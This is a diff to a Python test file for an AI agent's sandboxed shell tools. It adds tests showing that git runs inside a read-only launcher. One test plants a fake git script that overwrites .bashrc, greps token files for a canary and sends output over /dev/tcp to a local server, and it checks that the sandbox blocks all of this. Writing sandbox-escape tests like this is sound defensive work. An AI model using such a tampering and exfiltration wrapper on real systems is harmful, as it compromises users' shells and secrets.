@@ -14,6 +14,7 @@ import tempfile
 from collections.abc import Iterator
 from contextlib import contextmanager
 from dataclasses import replace
+from functools import partial
 from pathlib import Path
 
 import pytest
@@ -23,8 +24,10 @@ from agenticx.sandbox.options import SandboxOptions
 from agenticx.sandbox.probe import find_sandbox
 from agenticx.tools.builtin.edits import file_write
 from agenticx.tools.builtin.shell import bash_exec
+from agenticx.tools.shell.git_reads import read_git_arguments
+from agenticx.tools.shell.git_repositories import GitRepositories
 from agenticx.tools.shell.protected_files import find_protected_files
-from agenticx.tools.shell.sandboxing import Launch
+from agenticx.tools.shell.sandboxing import Launch, read_only_launcher
 from tests.support.timeouts import wait_until
 
 pytestmark = [
@@ -202,6 +205,44 @@ async def test_a_linked_working_tree_commits_to_its_repository_but_cannot_config
     log = subprocess.run(["git", "-C", linked, "log", "--format=%s"], capture_output=True, check=True)
     assert log.stdout == b"One\n0\n"
     assert guard_rails(tmp_path) == {}
+
+
+async def test_a_linked_working_tree_is_read_where_its_repository_is_in_the_home_folder(machine, tmp_path) -> None:
+    runner = machine()
+    repository, linked = tmp_path / "me/repository", tmp_path / "linked"
+    subprocess.run(["git", "clone", "-q", runner.workspace, repository], check=True, stderr=subprocess.DEVNULL)
+    identity = ["-c", "user.name=me", "-c", "user.email=me"]
+    subprocess.run(["git", "-C", repository, *identity, "commit", "-qm", "0", "--allow-empty"], check=True)
+    subprocess.run(["git", "-C", repository, "worktree", "add", "-q", linked], check=True)
+    runner.context = replace(runner.context, workspace=linked)
+    command = "git log --format=%s"
+    assert runner.assess(bash_exec, command=command).risk == "read"
+    runner.context = replace(runner.context, permitted_risk="read")
+    assert await runner.call(bash_exec, command=command) == "0\n[exit code 0]"
+
+
+@pytest.mark.parametrize("name", ["machine", "weak_machine"])
+def test_what_git_runs_while_a_repository_is_judged_reaches_nothing(request, tmp_path, name) -> None:
+    """A git that does what a repository could make it do, if that is changed at the same time.
+
+    What it reads or sends is in its output, which is then none that git could have written.
+    """
+    runner = request.getfixturevalue(name)()
+    work = runner.workspace
+    git = work / "git"
+    with server() as port:
+        git.write_text(f"""#!/bin/bash
+            (echo evil > {tmp_path}/me/.bashrc; echo evil > {work}/new; grep canary {tmp_path}/tok*
+            exec 4<>/dev/tcp/127.0.0.1/{port} && echo sent) 2>/dev/null
+            exec /usr/bin/git "$@"
+        """)
+        git.chmod(0o755)
+        launcher = partial(read_only_launcher, runner.context, os.environ)
+        git_status = read_git_arguments(["status"])
+        assert GitRepositories(work, str(git), os.environ, launcher).find_obstacle(git_status, work) is None
+        assert ((tmp_path / "me/.bashrc").read_text(), (work / "new").exists()) == ("true\n", False)
+        assert GitRepositories(work, str(git), os.environ).find_obstacle(git_status, work) is not None
+        assert ((tmp_path / "me/.bashrc").read_text(), (work / "new").exists()) == ("evil\n", True)
 
 
 async def test_what_a_question_named_may_be_written(machine) -> None:
